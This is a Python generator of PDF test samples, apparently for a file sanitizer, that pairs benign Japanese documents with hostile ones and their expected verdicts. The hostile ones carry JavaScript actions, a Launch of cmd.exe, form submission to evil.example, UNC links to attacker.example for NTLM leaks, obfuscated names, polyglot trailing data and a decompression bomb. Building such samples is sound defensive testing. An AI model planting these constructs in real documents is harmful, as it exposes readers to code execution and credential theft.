"""PDF samples: benign documents (Japanese text, images, bookmarks, forms, comments) and hostile ones.

Benign files are written with reportlab (built-in Japanese CID font); hostile
parts are grafted on with pikepdf or written as raw bytes where the trick lives
in the file syntax (obfuscated names, incremental updates, damaged xref).
"""
from __future__ import annotations

import io
import re
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from . import Sample, generator

JA_LINES = ["住民票の写しの交付申請書", "氏名: 山田 太郎", "住所: 東京都千代田区霞が関1-2-3", "表示・申請・ソ・能・十"]
JS = "app.alert('pwned'); this.exportDataObject({cName: 'x', nLaunch: 2});"
_FONT = "HeiseiMin-W3"


def _canvas(buf: io.BytesIO):
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    if _FONT not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont(_FONT))
    c = canvas.Canvas(buf, pagesize=(595, 842), invariant=1)
    c.setTitle("申請書")
    c.setAuthor("市役所")
    return c


def japanese_pdf(pages: int = 1, lines: int = 4) -> bytes:
    """A plain Japanese text document (also used by the benchmarks)."""
    buf = io.BytesIO()
    c = _canvas(buf)
    for p in range(pages):
        c.setFont(_FONT, 12)
        for i in range(lines):
            text = JA_LINES[i % len(JA_LINES)]
            c.drawString(60, 780 - 18 * i, f"{text} ({p + 1}-{i + 1})")
        c.setFont("Helvetica", 10)
        c.drawString(60, 60, f"Page {p + 1}")
        c.showPage()
    c.save()
    return buf.getvalue()


def many_objects_pdf(n: int = 5000) -> bytes:
    """About `n` small indirect objects: note annotations spread over 20 pages."""
    pdf = pikepdf.open(io.BytesIO(japanese_pdf(20, 2)))
    per = max(1, n // 20)
    for page in pdf.pages:
        annots = Array()
        for k in range(per):
            annots.append(pdf.make_indirect(Dictionary(
                Type=Name.Annot, Subtype=Name.Text, Rect=[20 + k % 50 * 10, 20 + k // 50 * 10, 30 + k % 50 * 10,
                                                          30 + k // 50 * 10], Contents=String(f"メモ {k}"))))
        page.obj.Annots = annots
    return _save(pdf)


def _save(pdf: pikepdf.Pdf, **kw) -> bytes:
    buf = io.BytesIO()
    kw.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.disable)
    pdf.save(buf, **kw)
    return buf.getvalue()


def _base() -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(japanese_pdf(1)))


def _annot(pdf: pikepdf.Pdf, page: int = 0, **kw) -> pikepdf.Dictionary:
    kw.setdefault("Rect", [50, 500, 250, 530])
    a = pdf.make_indirect(Dictionary(Type=Name.Annot, **kw))
    p = pdf.pages[page].obj
    if "/Annots" not in p:
        p.Annots = Array()
    p.Annots.append(a)
    return a


def _js(pdf: pikepdf.Pdf, code: str = JS, stream: bool = False) -> pikepdf.Dictionary:
    body = pdf.make_stream(code.encode()) if stream else String(code)
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=body))


def _raw_pdf(objects: list[bytes], root: int = 1, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """Objects numbered from 1, with a correct classic xref table."""
    out = bytearray(header)
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _incremental(base: bytes, objects: dict[int, bytes], root: int, size: int) -> bytes:
    """Append an incremental update that replaces/adds `objects`."""
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    out = bytearray(base)
    offsets = {}
    for num, body in sorted(objects.items()):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for num, off in sorted(offsets.items()):
        out += b"%d 1\n%010d 00000 n \n" % (num, off)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref)
    return bytes(out)


@generator("pdf")
def pdf_files(out: Path) -> list[Sample]:
    b, h = out / "pdf" / "benign", out / "pdf" / "hostile"
    for d in (b, h):
        d.mkdir(parents=True, exist_ok=True)
    s: list[Sample] = []

    def put(path: Path, data: bytes, verdict: str, threats: list[str] | None = None, note: str = "",
            password: str | None = None) -> None:
        path.write_bytes(data)
        s.append(Sample(path.relative_to(out).as_posix(), verdict, threats or [], note, password))

    # ---- benign ----
    put(b / "japanese_1page.pdf", japanese_pdf(1), "clean", note="Japanese text in a CID font")
    put(b / "multipage_images.pdf", _images_pdf(), "clean", note="3 pages, 2 images each, Japanese text")
    put(b / "bookmarks_links_labels.pdf", _bookmarks_pdf(), "clean",
        note="outline, internal links, an https link, page labels, open-at-page action")
    put(b / "form_values.pdf", _form_pdf(), "clean", note="AcroForm text field and checkbox with values")
    put(b / "comments.pdf", _comments_pdf(), "clean", note="note, highlight and popup annotations")
    put(b / "embedded_truetype.pdf", embedded_font_pdf(), "clean", note="a TrueType font program (FontFile2)")
    put(b / "embedded_cff.pdf", embedded_font_pdf("cff"), "clean", note="a bare CFF font program (FontFile3 Type1C)")
    put(b / "embedded_type1.pdf", type1_font_pdf(), "clean", note="a Type 1 font program (FontFile)")
    put(b / "scanned_codecs.pdf", codec_images_pdf(), "clean", ["pdf.image_recoded"],
        note="JBIG2, CCITT G4 (BlackIs1), JPEG 2000, JPEG and inverted CMYK JPEG images: decoded and written anew")

    # ---- JavaScript in its many homes ----
    pdf = _base()
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])))
    put(h / "js_names_tree.pdf", _save(pdf), "sanitized", ["pdf.javascript"], "document-level JS in /Names")

    pdf = _base()
    pdf.Root.OpenAction = _js(pdf)
    put(h / "js_openaction.pdf", _save(pdf), "sanitized", ["pdf.open_action", "pdf.javascript"])

    pdf = _base()
    _annot(pdf, Subtype=Name.Link, Border=[0, 0, 0], A=_js(pdf))
    put(h / "js_link_annotation.pdf", _save(pdf), "sanitized", ["pdf.javascript"], "link that runs JS")

    pdf = _base()
    with pdf.open_outline() as outline:
        item = pikepdf.OutlineItem("第1章", 0)
        outline.root.append(item)
    first = pdf.Root.Outlines.First
    del first["/Dest"]
    first.A = _js(pdf)
    put(h / "js_outline.pdf", _save(pdf), "sanitized", ["pdf.javascript"], "bookmark that runs JS")

    pdf = _base()
    pdf.Root.OpenAction = _js(pdf, stream=True)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js(pdf, stream=True)])))
    put(h / "js_objstm.pdf", _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate), "sanitized",
        ["pdf.javascript", "pdf.open_action"], "JS actions inside object streams, code in Flate streams")

    base = japanese_pdf(1)
    with pikepdf.open(io.BytesIO(base)) as p:
        root_num, size = p.Root.objgen[0], int(p.trailer.Size)
        catalog = p.Root.unparse(resolved=True)
    catalog = catalog[:-2] + b" /OpenAction %d 0 R >>" % size
    js = b"<< /S /JavaScript /JS (%s) >>" % JS.encode()
    put(h / "js_incremental.pdf", _incremental(base, {root_num: catalog, size: js}, root_num, size + 1),
        "sanitized", ["pdf.javascript", "pdf.open_action"], "JS added by an incremental update")

    objs = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /J#61vaScript 5 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
            b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>",
            b"<< /Names [(x) 4 0 R] >>"]
    put(h / "js_obfuscated_names.pdf", _raw_pdf(objs), "sanitized", ["pdf.javascript", "pdf.open_action"],
        "/J#61vaScript hex-escaped names")

    # ---- additional actions ----
    pdf = _base()
    pdf.Root.AA = Dictionary(WC=_js(pdf), WP=_js(pdf))
    put(h / "aa_document.pdf", _save(pdf), "sanitized", ["pdf.additional_actions"], "JS before close/print")
    pdf = _base()
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf))
    put(h / "aa_page.pdf", _save(pdf), "sanitized", ["pdf.additional_actions"], "JS when the page opens")
    pdf = _base()
    _annot(pdf, Subtype=Name.Square, C=[1, 0, 0], AA=Dictionary(E=_js(pdf)))
    put(h / "aa_annotation.pdf", _save(pdf), "sanitized", ["pdf.additional_actions"], "JS on mouse enter")
    pdf = pikepdf.open(io.BytesIO(_form_pdf()))
    field = pdf.Root.AcroForm.Fields[0]
    field.AA = Dictionary(K=_js(pdf, "event.rc = true; app.launchURL('http://evil.example/');"), F=_js(pdf))
    put(h / "aa_field.pdf", _save(pdf), "sanitized", ["pdf.additional_actions"], "keystroke/format JS on a field")

    # ---- actions that leave the document ----
    def link_with(action: Dictionary, name: str, tid: str, note: str) -> None:
        pdf = _base()
        _annot(pdf, Subtype=Name.Link, Border=[0, 0, 0], A=pdf.make_indirect(action))
        put(h / name, _save(pdf), "sanitized", [tid], note)

    link_with(Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"),
                                                                          P=String("/c calc"))),
              "launch.pdf", "pdf.launch", "Launch cmd.exe")
    link_with(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect")),
                         Flags=4), "submit_form.pdf", "pdf.submit_form", "SubmitForm to a remote URL")
    link_with(Dictionary(S=Name.ImportData, F=String("C:\\Users\\Public\\data.fdf")),
              "import_data.pdf", "pdf.import_data", "ImportData from a local file")
    link_with(Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])),
              "gotor.pdf", "pdf.remote_goto", "GoToR to an SMB share (NTLM leak)")
    link_with(Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x.pdf")), D=Array([0, Name.Fit])),
              "gotoe.pdf", "pdf.remote_goto", "GoToE into an embedded file")
    link_with(Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")), "uri_javascript.pdf", "pdf.uri",
              "javascript: URI")
    pdf = _base()
    _annot(pdf, Subtype=Name.Link, Border=[0, 0, 0], A=Dictionary(S=Name.URI, URI=String("file:///C:/Windows/System32/calc.exe")))
    _annot(pdf, Subtype=Name.Link, Rect=[50, 400, 250, 430], Border=[0, 0, 0],
           A=Dictionary(S=Name.URI, URI=String("https://www.example.lg.jp/")))
    put(h / "uri_file.pdf", _save(pdf), "sanitized", ["pdf.uri"], "file: link removed, https link kept")
    # qpdf writes keys sorted: an extra "/U /S" lands just before the real /URI key, as if it were "/S /URI".
    link_with(Dictionary(S=Name.URI, U=Name.S, URI=String("\\\\attacker.example\\share\\payload.pdf")),
              "uri_fake_type.pdf", "pdf.uri", "UNC link behind a fake '/S' before the /URI key (NTLM leak)")

    # ---- references to outside files (no action needed: a reader may fetch them on display) ----
    pdf = _base()
    img = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
                          ColorSpace=Name.DeviceGray, BitsPerComponent=8, F=String("\\\\attacker.example\\s\\a.bin"))
    form = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10],
                           Ref=Dictionary(F=Dictionary(Type=Name.Filespec, F=String("\\\\attacker.example\\s\\b.pdf")),
                                          Page=0))
    pdf.pages[0].Resources.XObject = Dictionary(Im9=img, Fx9=form)
    pdf.pages[0].contents_add(pdf.make_stream(b"q 10 0 0 10 0 0 cm /Im9 Do /Fx9 Do Q"))
    pdf.pages[0].obj.AF = Array([Dictionary(Type=Name.Filespec, F=String("\\\\attacker.example\\s\\c.exe"),
                                            AFRelationship=Name.Data)])
    put(h / "outside_files.pdf", _save(pdf), "sanitized", ["pdf.external_ref"],
        "external stream, reference XObject and associated file on an SMB share")
    # The same through references: "/F 7 0 R" to a UNC string, or to a file specification with only /UF.
    pdf = _base()
    unc = pdf.make_indirect(String("\\\\attacker.example\\s\\a.bin"))
    url = pdf.make_indirect(Dictionary(Type=Name.Filespec, FS=Name.URL, UF=String("https://attacker.example/t.bin")))
    pdf.pages[0].contents_add(pdf.make_stream(b"BT ET", F=unc))
    img = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
                          ColorSpace=Name.DeviceGray, BitsPerComponent=8, F=url)
    pdf.pages[0].Resources.XObject = Dictionary(Im9=img)
    put(h / "outside_files_indirect.pdf", _save(pdf), "sanitized", ["pdf.external_ref"],
        "stream data on an SMB share and a web server, named through indirect references")

    # ---- media ----
    pdf = _base()
    _annot(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([
        String("a.swf"), Dictionary(Type=Name.Filespec, F=String("a.swf"),
                                    EF=Dictionary(F=pdf.make_stream(b"FWS\x0a" + b"\x00" * 40)))]))),
           RichMediaSettings=Dictionary())
    put(h / "richmedia.pdf", _save(pdf), "sanitized", ["pdf.rich_media"], "Flash RichMedia annotation")
    put(h / "richmedia_damaged_subtype.pdf", _richmedia_damaged(), "sanitized", ["pdf.other_annotation"],
        "RichMedia annotation whose /Subtype bytes are damaged (/RichMedja), Flash content and poster kept in it")
    put(h / "launch_damaged_dict.pdf", _launch_damaged(), "sanitized", ["pdf.unknown_key", "file.malformed"],
        "Launch action whose << was damaged: after repair /Launch and /Win << /F (cmd.exe) ... >> are annotation keys")
    pdf = _base()
    _annot(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("movie.avi")))
    _annot(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(b"\x00" * 64, Type=Name.Sound, R=8000))
    screen = _annot(pdf, Subtype=Name.Screen)
    screen.A = Dictionary(S=Name.Rendition, OP=0, AN=screen, R=Dictionary(S=Name.MR, C=Dictionary(
        S=Name.MCD, D=Dictionary(Type=Name.Filespec, F=String("clip.mp4")))))
    _annot(pdf, Subtype=Name("/3D"), **{"/3DD": pdf.make_stream(b"U3D\x00", Type=Name("/3D"), Subtype=Name.U3D)})
    put(h / "movie_sound_screen_3d.pdf", _save(pdf), "sanitized", ["pdf.rich_media"],
        "Movie, Sound, Screen+Rendition and 3D annotations")

    # ---- forms ----
    pdf = pikepdf.open(io.BytesIO(_form_pdf()))
    xdp = (b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>'
           b'<script contentType="application/x-javascript">app.alert(1)</script></template></xdp:xdp>')
    pdf.Root.AcroForm.XFA = pdf.make_stream(xdp)
    pdf.Root.NeedsRendering = True
    put(h / "xfa.pdf", _save(pdf), "sanitized", ["pdf.xfa"], "XFA form with script; AcroForm values stay")

    # ---- attachments ----
    for name, data, note in (("embedded_file.pdf", "添付資料です\n".encode(), "text attachment, twice"),
                             ("embedded_exe.pdf", b"MZ" + b"\x90" * 58 + b"\x40\x00\x00\x00PE\x00\x00" +
                              b"\x00" * 200, "an executable attached as invoice.exe")):
        pdf = _base()
        fname = "invoice.exe" if "exe" in name else "memo.txt"
        spec = pikepdf.AttachedFileSpec(pdf, data, filename=fname, mime_type="application/octet-stream")
        pdf.attachments[fname] = spec
        _annot(pdf, Subtype=Name.FileAttachment, FS=pdf.attachments[fname].obj, Contents=String(fname))
        put(h / name, _save(pdf), "sanitized", ["pdf.embedded_file"], note)

    # ---- the envelope ----
    body = japanese_pdf(1)
    put(h / "trailing_data.pdf", body + b"PK\x03\x04" + b"\x00" * 26 + b"payload.vbs" + b"\x00" * 40,
        "sanitized", ["pdf.trailing_data"], "a ZIP fragment after %%EOF (polyglot)")
    put(h / "leading_junk.pdf", b"GARBAGE-BEFORE-HEADER\n" + b"#" * 200 + b"\n" + body, "sanitized",
        ["pdf.leading_data"], "junk before the %PDF header")
    damaged = re.sub(rb"startxref\s+\d+", b"startxref\n999", body)
    put(h / "damaged_xref.pdf", damaged, "sanitized", ["file.malformed"], "wrong startxref offset")

    # ---- encryption ----
    pdf = _base()
    put(h / "encrypted_empty_user.pdf", _save(pdf, encryption=pikepdf.Encryption(owner="owner", user="", R=6)),
        "sanitized", ["pdf.encrypted"], "AES-256, owner password only")
    pdf = _base()
    enc = _save(pdf, encryption=pikepdf.Encryption(owner="owner", user="himitsu", R=6))
    put(h / "encrypted_password.pdf", enc, "blocked", ["file.encrypted"], "needs a password, none given")
    put(h / "encrypted_password_supplied.pdf", enc, "sanitized", ["pdf.encrypted"], "password given out of band",
        password="himitsu")

    # ---- limits ----
    put(h / "font_sing_table.pdf", embedded_font_pdf("opentype", {"SING": b"\x00\x01" + b"A" * 600},
                                                     b"MZ\x90\x00 after the font"), "clean",
        [], "an OpenType font with a SING table (CVE-2010-2883's overflow) and bytes after its tables")
    put(h / "codec_trailing_payload.pdf", codec_images_pdf(b"MZ\x90\x00 payload after the image data"), "clean",
        [], "bytes after a JPEG's EOI and a JBIG2 stream's end of page: not in the rebuilt images")
    put(h / "bomb.pdf", _bomb_pdf(), "blocked", ["pdf.bomb"], "two Flate layers over 260 MB of zeros")
    put(h / "bomb_before_codec.pdf", _bomb_pdf(codec=True), "blocked", ["pdf.bomb"],
        "the same two Flate layers in front of DCTDecode: readers inflate them before the codec")
    pdf = pikepdf.new()
    for _ in range(2001):
        pdf.add_blank_page(page_size=(100, 100))
    put(h / "too_many_pages.pdf", _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate), "blocked",
        ["file.limit"], "2001 pages, default limit 2000")
    return s


def _richmedia_damaged() -> bytes:
    """Issue 20's first example: a RichMedia annotation with a poster appearance (a grey box with a play
    triangle) whose /Subtype name was damaged, so that no subtype rule knows it; its content stays inside."""
    pdf = _base()
    poster = pdf.make_stream(b"0.6 g 0 0 200 100 re f 1 g 80 25 m 80 75 l 130 50 l f", Type=Name.XObject,
                             Subtype=Name.Form, BBox=[0, 0, 200, 100])
    _annot(pdf, Subtype=Name.RichMedia, Rect=[60, 300, 260, 400], AP=Dictionary(N=poster),
           RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), Dictionary(
               Type=Name.Filespec, F=String("a.swf"), EF=Dictionary(F=pdf.make_stream(b"FWS\x0a" + b"\x00" * 40))
           )]))), RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)))
    data = _save(pdf)
    assert data.count(b"/Subtype /RichMedia\n") + data.count(b"/Subtype /RichMedia ") == 1
    return re.sub(rb"/Subtype /RichMedia(?=[\s/>])", b"/Subtype /RichMedja", data)


def _launch_damaged() -> bytes:
    """Issue 20's second example: '/A << /S /Launch' damaged into '/A <ce> /Launch': qpdf's repair leaves the
    action's keys, /Win << /F (cmd.exe) /P (...) >> included, in the link annotation itself."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
            b" /Resources << /Font << /F1 6 0 R >> >> /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [50 500 250 530] /Border [0 0 0]"
            b" /A <ce>  /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>",
            b"<< /Length 44 >>\nstream\nBT /F1 24 Tf 60 510 Td (Click here) Tj ET    \nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    return _raw_pdf(objs)


def _images_pdf() -> bytes:
    from PIL import Image
    from reportlab.lib.utils import ImageReader

    buf = io.BytesIO()
    c = _canvas(buf)
    for p in range(3):
        c.setFont(_FONT, 14)
        c.drawString(60, 780, f"写真資料 第{p + 1}頁")
        for k in range(2):
            im = Image.new("RGB", (48, 32), (60 * p + 40, 90 * k + 50, 120))
            for x in range(0, 48, 4):
                im.putpixel((x, (x + p * 7 + k) % 32), (255, 255, 255))
            c.drawImage(ImageReader(im), 60 + 220 * k, 500, 200, 133)
        c.showPage()
    c.save()
    return buf.getvalue()


def _bookmarks_pdf() -> bytes:
    buf = io.BytesIO()
    c = _canvas(buf)
    for p in range(3):
        c.bookmarkPage(f"ch{p + 1}")
        c.addOutlineEntry(f"第{p + 1}章", f"ch{p + 1}", level=0)
        c.setFont(_FONT, 14)
        c.drawString(60, 780, f"第{p + 1}章 手続きの概要")
        if p == 0:
            c.drawString(60, 700, "第3章へ")
            c.linkAbsolute("", "ch3", Rect=(60, 695, 200, 715))
            c.drawString(60, 650, "市のサイト")
            c.linkURL("https://www.example.lg.jp/", (60, 645, 200, 665), relative=0)
        c.showPage()
    c.save()
    pdf = pikepdf.open(io.BytesIO(buf.getvalue()))
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.r), 1, Dictionary(S=Name.D, P=String("本文-"))]))
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return _save(pdf)


def _form_pdf() -> bytes:
    buf = io.BytesIO()
    c = _canvas(buf)
    c.setFont(_FONT, 12)
    c.drawString(60, 780, "申請者氏名")
    c.acroForm.textfield(name="applicant", x=60, y=740, width=200, height=20, value="Yamada Taro",
                         forceBorder=True)
    c.drawString(60, 700, "同意する")
    c.acroForm.checkbox(name="agree", x=60, y=670, checked=True, buttonStyle="check")
    c.showPage()
    c.save()
    return buf.getvalue()


def _comments_pdf() -> bytes:
    pdf = _base()
    popup = _annot(pdf, Subtype=Name.Popup, Rect=[300, 600, 500, 700], Open=False)
    note = _annot(pdf, Subtype=Name.Text, Rect=[40, 760, 60, 780], Contents=String("確認してください"),
                  T=String("担当者"), Popup=popup, Name=Name.Comment)
    popup.Parent = note
    _annot(pdf, Subtype=Name.Highlight, Rect=[58, 775, 260, 795], QuadPoints=[58, 795, 260, 795, 58, 775, 260, 775],
           C=[1, 1, 0], Contents=String("重要"))
    return _save(pdf)


def _bomb_pdf(codec: bool = False) -> bytes:
    c = zlib.compressobj(9)
    zeros = bytes(1 << 20)
    inner = b"".join(c.compress(zeros) for _ in range(260)) + c.flush()
    pdf = _base()
    stream = pikepdf.Stream(pdf, zlib.compress(inner, 9))
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode] + ([Name.DCTDecode] if codec else []))
    pdf.pages[0].obj.Resources.XObject = Dictionary(Bomb=stream)
    if codec:
        stream.Type, stream.Subtype, stream.Width, stream.Height = Name.XObject, Name.Image, 100, 100
        stream.ColorSpace, stream.BitsPerComponent = Name.DeviceGray, 8
    else:
        stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, Array([0, 0, 10, 10])
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


# ---- scanned-document image codecs (JBIG2, fax, JPEG 2000, JPEG) ----
def _bilevel(w: int = 320, h: int = 120, seed: int = 0):
    """A 1-bit page fragment: a frame, a filled box and text strokes (mode "1", 0 = black)."""
    from PIL import Image, ImageDraw

    im = Image.new("1", (w, h), 255)
    d = ImageDraw.Draw(im)
    d.rectangle((4, 4, w - 5, h - 5), outline=0, width=2)
    d.rectangle((16 + seed, 20, 80 + seed, 60), fill=0)
    for x in range(100, w - 20, 9):
        d.line((x, 30, x + 5, 90 - (x * 7 + seed) % 40), fill=0, width=2)
    return im


def g4_strip(im) -> bytes:
    """CCITT Group 4 data of a 1-bit image, as one strip written by libtiff (through Pillow). libtiff codes
    sample 1 as a black run whatever the photometric tag says."""
    from PIL import Image, TiffImagePlugin

    old = TiffImagePlugin.STRIP_SIZE
    TiffImagePlugin.STRIP_SIZE = 1 << 30  # one strip: G4 strips cannot be joined into one image
    try:
        buf = io.BytesIO()
        im.save(buf, "TIFF", compression="group4")
    finally:
        TiffImagePlugin.STRIP_SIZE = old
    with Image.open(io.BytesIO(buf.getvalue())) as t:
        (off,), (count,) = t.tag_v2[273], t.tag_v2[279]
    return buf.getvalue()[off:off + count]


def jbig2_stream(im) -> bytes:
    """An embedded JBIG2 stream (PDF form: no file header) of a 1-bit image: a page information segment
    and one immediate generic region coded with MMR (T.6, the coding JBIG2 allows besides its
    arithmetic coder). JBIG2 draws 1 as black, so the image (0 = black) is inverted first."""
    import struct

    from PIL import ImageChops

    inverted = ImageChops.invert(im)
    w, h = im.size

    def seg(num: int, typ: int, data: bytes) -> bytes:
        return struct.pack(">IBBBI", num, typ, 0, 1, len(data)) + data

    page = seg(0, 48, struct.pack(">IIIIBH", w, h, 0, 0, 0, 0))
    region = seg(1, 38, struct.pack(">IIIIB", w, h, 0, 0, 0) + b"\x01" + g4_strip(inverted))
    return page + region + seg(2, 49, b"")


def _jpx_bytes(rgb: bool = True) -> bytes:
    from PIL import Image

    im = Image.new("RGB" if rgb else "L", (96, 64))
    im.putdata([((x * 5) % 256, (y * 7) % 256, (x * y) % 256) if rgb else (x * 3 + y) % 256
                for y in range(64) for x in range(96)])
    buf = io.BytesIO()
    im.save(buf, "JPEG2000", irreversible=True, quality_mode="rates", quality_layers=[20])
    return buf.getvalue()


def _jpeg_bytes(size: tuple[int, int] = (120, 80), cmyk: bool = False) -> bytes:
    from PIL import Image

    im = Image.new("RGB", size)
    im.putdata([((x * 3) % 256, (y * 5) % 256, (x + y) % 256) for y in range(size[1]) for x in range(size[0])])
    buf = io.BytesIO()
    (im.convert("CMYK") if cmyk else im).save(buf, "JPEG", quality=80)
    return buf.getvalue()


def codec_images_pdf(trailing: bytes = b"") -> bytes:
    """One page with a JBIG2, a CCITT G4, a JPEG 2000, a JPEG and a CMYK JPEG image and a line of Japanese text.
    `trailing` is appended to the JPEG (after EOI) and to the JBIG2 stream, where readers never look."""
    pdf = _base()
    page = pdf.pages[0].obj
    mono = _bilevel()
    w, h = mono.size

    def image(data: bytes, **kw) -> pikepdf.Stream:
        s = pikepdf.Stream(pdf, data)
        s.Type, s.Subtype = Name.XObject, Name.Image
        for k, v in kw.items():
            s[Name("/" + k)] = v
        return pdf.make_indirect(s)

    xo = {
        "/J2": image(jbig2_stream(mono) + trailing, Width=w, Height=h, ColorSpace=Name.DeviceGray,
                     BitsPerComponent=1, Filter=Name.JBIG2Decode),
        "/Fax": image(g4_strip(_bilevel(seed=20)), Width=w, Height=h, ColorSpace=Name.DeviceGray,
                      BitsPerComponent=1, Filter=Name.CCITTFaxDecode,
                      DecodeParms=Dictionary(K=-1, Columns=w, Rows=h, BlackIs1=True)),
        "/Jpx": image(_jpx_bytes(), Width=96, Height=64, Filter=Name.JPXDecode),
        "/Jpg": image(_jpeg_bytes() + trailing, Width=120, Height=80, ColorSpace=Name.DeviceRGB,
                      BitsPerComponent=8, Filter=Name.DCTDecode),
        "/Cmyk": image(_jpeg_bytes(cmyk=True), Width=120, Height=80, ColorSpace=Name.DeviceCMYK,
                       BitsPerComponent=8, Filter=Name.DCTDecode, Decode=Array([1, 0, 1, 0, 1, 0, 1, 0])),
    }
    res = page.Resources
    res.XObject = Dictionary(xo)
    draw = (b"q 320 0 0 120 40 600 cm /J2 Do Q q 320 0 0 120 40 460 cm /Fax Do Q "
            b"q 192 0 0 128 380 600 cm /Jpx Do Q q 120 0 0 80 380 460 cm /Jpg Do Q q 120 0 0 80 380 360 cm /Cmyk Do Q")
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b"\n" + draw)
    return _save(pdf)


# ---- embedded font programs ----
def _test_font(cff: bool = False, extra: dict[str, bytes] | None = None) -> bytes:
    """A small font made with fontTools: A, B and 住 as distinct rectangles; TrueType or CFF-flavoured
    OpenType; `extra` tables added as raw data (a SING table, the one CVE-2010-2883 overflowed)."""
    from fontTools.fontBuilder import FontBuilder
    from fontTools.pens.t2CharStringPen import T2CharStringPen
    from fontTools.pens.ttGlyphPen import TTGlyphPen
    from fontTools.ttLib.tables.DefaultTable import DefaultTable

    names = [".notdef", "A", "B", "uni4F4F"]
    fb = FontBuilder(1000, isTTF=not cff)
    fb.setupGlyphOrder(names)
    fb.setupCharacterMap({0x41: "A", 0x42: "B", 0x4F4F: "uni4F4F"})
    shapes = {}
    for i, n in enumerate(names):
        pen = T2CharStringPen(600, None) if cff else TTGlyphPen(None)
        x0, y1 = 60 + 40 * i, 700 - 120 * i
        pen.moveTo((x0, 0))
        pen.lineTo((x0, y1))
        pen.lineTo((560, y1))
        pen.lineTo((560, 0))
        pen.closePath()
        shapes[n] = pen.getCharString() if cff else pen.glyph()
    if cff:
        fb.setupCFF("CdrTest-Regular", {"FullName": "CdrTest"}, shapes, {})
    else:
        fb.setupGlyf(shapes)
    fb.setupHorizontalMetrics({n: (620, 60) for n in names})
    fb.setupHorizontalHeader(ascent=800, descent=-200)
    fb.setupNameTable({"familyName": "CdrTest", "styleName": "Regular"})
    fb.setupOS2()
    fb.setupPost()
    for tag, data in (extra or {}).items():
        t = DefaultTable(tag)
        t.data = data
        fb.font[tag] = t
    buf = io.BytesIO()
    fb.save(buf)
    return buf.getvalue()


def embedded_font_pdf(kind: str = "truetype", extra: dict[str, bytes] | None = None, trailing: bytes = b"") -> bytes:
    """One page of "ABBA" in an embedded font: TrueType (FontFile2), OpenType (FontFile3 /OpenType) or a bare
    CFF program (FontFile3 /Type1C), as a simple font with WinAnsiEncoding; `trailing` after the program."""
    from fontTools.ttLib import TTFont

    data = _test_font(cff=kind != "truetype", extra=extra)
    if kind == "cff":
        otf = TTFont(io.BytesIO(data))
        data = otf["CFF "].compile(otf)
    data += trailing
    pdf = _base()
    ff = pdf.make_stream(data)
    if kind == "truetype":
        ff.Length1 = len(data)
    else:
        ff.Subtype = Name.Type1C if kind == "cff" else Name.OpenType
    desc = pdf.make_indirect(Dictionary(Type=Name.FontDescriptor, FontName=Name("/CdrTest"), Flags=32,
